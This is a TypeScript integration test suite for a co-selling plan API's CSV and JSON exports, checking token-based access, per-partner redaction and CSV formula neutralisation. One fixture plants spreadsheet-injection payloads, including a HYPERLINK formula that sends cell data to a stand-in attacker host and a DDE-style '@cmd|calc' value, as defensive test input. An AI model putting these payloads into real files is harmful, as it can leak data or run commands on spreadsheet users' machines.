import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { demoPlan, type Plan, type PlanContent, PORTFOLIO_CSV_HEADER } from '@cosell/shared';
import { parse } from 'csv-parse/sync';
import { exportJWK, generateKeyPair, type JWK, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EntraAuthenticator } from '../../functions/src/identity/entra-authenticator';
import { call, startTestApi, type TestApi } from '../support/api-host';

/*
 * Exports over real HTTP with Entra tokens (issue 10): the portfolio CSV (every page of the caller's list,
 * parsed back with csv-parse, formula-like cells neutralised) and the plan JSON, each redacted for the
 * caller's side — partner A (Contoso) never gets partner B's (A. Datum) economics. Also: a partner cannot
 * create a plan from a Crossbeam import. The tokens and the two-partner demo plan are those of
 * access-api.test.ts.
 */

const VENDOR_TENANT = '11111111-1111-4111-8111-111111111111';
const CONTOSO_TENANT = '22222222-2222-4222-8222-222222222222';
const ADATUM_TENANT = '33333333-3333-4333-8333-333333333333';
const OTHER_TENANT = '44444444-4444-4444-8444-444444444444';
const CLIENT_ID = '55555555-5555-4555-8555-555555555555';
const APP_ID_URI = `api://cosell.example.com/${CLIENT_ID}`;
const KID = 'key-1';
const PLAN_ID = 'plan-northwind';
const FORMULA_PLAN_ID = 'plan-formulas';
/** Plans beyond one page of the list (100), so the export must read every page. */
const EXTRA_PLANS = 101;

const VENDOR_USER = { upn: 'maya.okafor@vendor.example', tenant: VENDOR_TENANT };
const PARTNER_A_USER = { upn: 'sofia.marino@contoso.example', tenant: CONTOSO_TENANT };
const STRANGER = { upn: 'someone@elsewhere.example', tenant: OTHER_TENANT };

const B_SECRETS = [
  'Resale through A. Datum marketplace listing',
  'Joint logistics webinar',
  '"percent":18',
  '"amount":15000',
];
const B_GAP = 'economics with A. Datum Cloud Services not agreed yet';
const A_TERMS = 'Contoso delivers and bills the rollout services';

let keys: Awaited<ReturnType<typeof generateKeyPair>>;
let keyServer: http.Server;
let authorityHost: string;
let api: TestApi;

async function tokenFor(user: { upn: string; tenant: string }): Promise<string> {
  const now = Math.floor(Date.now() / 1000);
  return new SignJWT({
    iss: `${authorityHost}/${user.tenant}/v2.0`,
    aud: CLIENT_ID,
    tid: user.tenant,
    oid: `oid-${user.upn}`,
    name: user.upn,
    preferred_username: user.upn,
    scp: 'access_as_user',
    ver: '2.0',
    iat: now - 60,
    nbf: now - 60,
    exp: now + 3600,
  })
    .setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid: KID })
    .sign(keys.privateKey);
}

async function as(
  user: { upn: string; tenant: string },
  method: string,
  pathname: string,
  options: { json?: unknown; headers?: Record<string, string> } = {},
) {
  const authorization = `Bearer ${await tokenFor(user)}`;
  const response = await call(api.url, method, pathname, {
    ...options,
    headers: { authorization, ...options.headers },
  });
  return {
    ...response,
    text: typeof response.body === 'string' ? response.body : JSON.stringify(response.body),
  };
}

function twoPartnerPlan(): PlanContent {
  const p = demoPlan('2026-11-27');
  for (const partner of p.partners) {
    if (partner.id === 'p-contoso') partner.tenantId = CONTOSO_TENANT;
    if (partner.id === 'p-adatum') partner.tenantId = ADATUM_TENANT;
  }
  return p;
}

/** Text a spreadsheet would run as a formula, in the title, an account and a partner name. */
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

function formulaPlan(): PlanContent {
  const p = twoPartnerPlan();
  p.title = FORMULA_TITLE;
  const account = p.accounts[0];
  if (account) account.name = '+SUM(1,2)';
  const contoso = p.partners.find((x) => x.id === 'p-contoso');
  if (contoso) contoso.name = '@cmd|calc';
  return p;
}

/** The first bytes of a response as sent (fetch's text() drops a byte-order mark). */
async function firstBytes(user: { upn: string; tenant: string }, pathname: string): Promise<number[]> {
  const response = await fetch(`${api.url}${pathname}`, {
    headers: { authorization: `Bearer ${await tokenFor(user)}` },
  });
  return [...new Uint8Array(await response.arrayBuffer()).subarray(0, 3)];
}

function csvRows(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

beforeAll(async () => {
  keys = await generateKeyPair('RS256', { extractable: true });
  const jwk: JWK = { ...(await exportJWK(keys.publicKey)), kid: KID, alg: 'RS256', use: 'sig' };
  keyServer = http.createServer((req, res) => {
    if (!/^\/[0-9a-f-]{36}\/discovery\/v2\.0\/keys$/.test(req.url ?? '')) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [jwk] }));
  });
  await new Promise<void>((resolve) => keyServer.listen(0, '127.0.0.1', resolve));
  authorityHost = `http://127.0.0.1:${(keyServer.address() as AddressInfo).port}`;
  const tenants = [VENDOR_TENANT, CONTOSO_TENANT, ADATUM_TENANT, OTHER_TENANT];
  api = await startTestApi({
    env: {
      COSELL_IDENTITY: 'entra',
      ENTRA_CLIENT_ID: CLIENT_ID,
      ENTRA_APP_ID_URI: APP_ID_URI,
      ENTRA_TENANT_ID: VENDOR_TENANT,
      ENTRA_PARTNER_TENANT_IDS: tenants.slice(1).join(','),
    },
    authenticator: new EntraAuthenticator({
      clientId: CLIENT_ID,
      audiences: [CLIENT_ID, APP_ID_URI],
      allowedTenants: tenants,
      authorityHost,
      clockToleranceSeconds: 120,
    }),
  });
  const created = await as(VENDOR_USER, 'POST', '/api/plans', { json: { ...twoPartnerPlan(), id: PLAN_ID } });
  expect(created.status).toBe(201);
  const formulas = await as(VENDOR_USER, 'POST', '/api/plans', {
    json: { ...formulaPlan(), id: FORMULA_PLAN_ID },
  });
  expect(formulas.status).toBe(201);
  // More plans than one page of the list; Maya (vendor) is named on them, partner A is not.
  const vendorOnly = twoPartnerPlan();
  vendorOnly.people = vendorOnly.people.filter((p) => p.side !== 'partner' || p.partnerId !== 'p-contoso');
  const contosoGone = vendorOnly.people.map((p) => p.id);
  vendorOnly.milestones = vendorOnly.milestones.filter((m) => contosoGone.includes(m.ownerId));
  vendorOnly.actions = vendorOnly.actions.filter((a) => contosoGone.includes(a.ownerId));
  vendorOnly.escalation.partnerChains = vendorOnly.escalation.partnerChains.map((c) => ({
    ...c,
    chain: c.chain.filter((id) => contosoGone.includes(id)),
  }));
  if (vendorOnly.cadence) {
    vendorOnly.cadence.attendeeIds = vendorOnly.cadence.attendeeIds.filter((id) => contosoGone.includes(id));
  }
  for (let start = 0; start < EXTRA_PLANS; start += 20) {
    await Promise.all(
      Array.from({ length: Math.min(20, EXTRA_PLANS - start) }, async (_, k) => {
        const i = start + k;
        const made = await as(VENDOR_USER, 'POST', '/api/plans', {
          json: { ...vendorOnly, id: `bulk-${i}`, title: `Bulk plan ${String(i).padStart(3, '0')}` },
        });
        expect(made.status, made.text).toBe(201);
      }),
    );
  }
}, 120_000);

afterAll(async () => {
  await api?.close();
  await new Promise<void>((resolve) => keyServer.close(() => resolve()));
});

describe('GET /api/plans/export.csv', () => {
  it('is every plan the vendor sees, across pages, as RFC 4180 CSV a parser reads back', async () => {
    const response = await as(VENDOR_USER, 'GET', '/api/plans/export.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="co-sell-plans-2026-11-27.csv"',
    );
    expect(await firstBytes(VENDOR_USER, '/api/plans/export.csv')).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csvRows(response.text);
    expect(rows[0]).toEqual([...PORTFOLIO_CSV_HEADER]);
    const titles = rows.slice(1).map((r) => r[0]);
    expect(titles).toHaveLength(EXTRA_PLANS + 2);
    expect(titles).toContain('Northwind Logistics — supply-chain analytics rollout');
    expect(titles).toContain('Bulk plan 100');
    const northwind = rows.find((r) => r[0] === 'Northwind Logistics — supply-chain analytics rollout');
    const gaps = northwind?.[PORTFOLIO_CSV_HEADER.indexOf('Gaps')] ?? '';
    expect(gaps).toContain(B_GAP);
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const rows = csvRows((await as(VENDOR_USER, 'GET', '/api/plans/export.csv')).text);
    const formula = rows.find((r) => r[0]?.includes('HYPERLINK'));
    expect(formula?.[0]).toBe(`'${FORMULA_TITLE}`);
    expect(formula?.[PORTFOLIO_CSV_HEADER.indexOf('Accounts')]).toMatch(/^'\+SUM\(1,2\)/);
    expect(formula?.[PORTFOLIO_CSV_HEADER.indexOf('Partners')]).toMatch(/^'@cmd\|calc/);
    // No cell of the whole export starts with a formula trigger.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('gives partner A only its plans, without partner B’s economics gap', async () => {
    const response = await as(PARTNER_A_USER, 'GET', '/api/plans/export.csv?bom=false');
    expect(response.status).toBe(200);
    expect(await firstBytes(PARTNER_A_USER, '/api/plans/export.csv?bom=false')).toEqual([
      ...Buffer.from('Tit'),
    ]);
    const rows = csvRows(response.text);
    expect(
      rows
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual([`'${FORMULA_TITLE}`, 'Northwind Logistics — supply-chain analytics rollout'].sort());
    expect(response.text).not.toContain(B_GAP);
    expect(response.text).not.toContain('A. Datum Cloud Services not agreed');
  });

  it('gives someone on no plan the header row only', async () => {
    const rows = csvRows((await as(STRANGER, 'GET', '/api/plans/export.csv')).text);
    expect(rows).toEqual([[...PORTFOLIO_CSV_HEADER]]);
  });

  it('narrows by status and refuses an unknown parameter (400 naming it)', async () => {
    const won = csvRows((await as(VENDOR_USER, 'GET', '/api/plans/export.csv?status=won')).text);
    expect(won).toHaveLength(1);
    const bad = await as(VENDOR_USER, 'GET', '/api/plans/export.csv?statuz=won');
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('statuz');
    const badStatus = await as(VENDOR_USER, 'GET', '/api/plans/export.csv?status=finished');
    expect(badStatus.status).toBe(400);
  });

  it('needs a sign-in', async () => {
    const response = await call(api.url, 'GET', '/api/plans/export.csv');
    expect(response.status).toBe(401);
  });
});

describe('GET /api/plans/{id}/export.json', () => {
  it('is the whole plan for the vendor, both partners’ economics included, as an attachment', async () => {
    const response = await as(VENDOR_USER, 'GET', `/api/plans/${PLAN_ID}/export.json`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="co-sell-plan-northwind-logistics-supply-chain-analytics-rollout-plan-northwind.json"',
    );
    const plan = response.body as Plan;
    expect(plan.id).toBe(PLAN_ID);
    expect(plan.economics.map((e) => e.partnerId).sort()).toEqual(['p-adatum', 'p-contoso']);
    expect(response.text).toContain(B_SECRETS[0]);
  });

  it('holds none of partner B’s economics for partner A, and A’s own', async () => {
    const response = await as(PARTNER_A_USER, 'GET', `/api/plans/${PLAN_ID}/export.json`);
    expect(response.status).toBe(200);
    expect(response.text).toContain(A_TERMS);
    for (const secret of B_SECRETS) expect(response.text).not.toContain(secret);
    expect((response.body as Plan).economics.map((e) => e.partnerId)).toEqual(['p-contoso']);
  });

  it('is 404 for someone not on the plan, and for no such plan', async () => {
    const stranger = await as(STRANGER, 'GET', `/api/plans/${PLAN_ID}/export.json`);
    expect(stranger.status).toBe(404);
    expect(stranger.text).not.toContain('Northwind');
    expect((await as(VENDOR_USER, 'GET', '/api/plans/nope/export.json')).status).toBe(404);
  });

  it('names the file in plain ASCII whatever the title holds', async () => {
    const response = await as(VENDOR_USER, 'GET', `/api/plans/${FORMULA_PLAN_ID}/export.json`);
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="co-sell-plan-hyperlink-https-evil-example-a1-click-plan-formulas.json"',
    );
  });
});

describe('Crossbeam import with Entra callers', () => {
  const exportCsv =
    'Record,Website,Account Owner Name,Account Owner Email\r\nTailspin,tailspin.example,Maya Okafor,maya.okafor@vendor.example\r\n';

  it('a partner may preview but not create a plan (403); the vendor creates it', async () => {
    const preview = await as(PARTNER_A_USER, 'POST', '/api/imports/crossbeam/preview', {
      headers: { 'content-type': 'text/csv' },
    });
    // `as` sends JSON bodies only: send the CSV with the same token by hand.
    expect(preview.status).toBe(422);
    const raw = await call(api.url, 'POST', '/api/imports/crossbeam/preview', {
      raw: exportCsv,
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${await tokenFor(PARTNER_A_USER)}` },
    });
    expect(raw.status).toBe(200);
    const accounts = (raw.body as { accounts: unknown[] }).accounts;
    const body = { partnerName: 'Contoso Consulting', accounts };
    const refused = await as(PARTNER_A_USER, 'POST', '/api/imports/crossbeam/plans', { json: body });
    expect(refused.status).toBe(403);
    const made = await as(VENDOR_USER, 'POST', '/api/imports/crossbeam/plans', { json: body });
    expect(made.status).toBe(201);
    // Maya is named (from the export), so she reads it; the stranger does not.
    const id = (made.body as { plan: Plan }).plan.id;
    expect((await as(VENDOR_USER, 'GET', `/api/plans/${id}/export.json`)).status).toBe(200);
    expect((await as(STRANGER, 'GET', `/api/plans/${id}/export.json`)).status).toBe(404);
  });
});
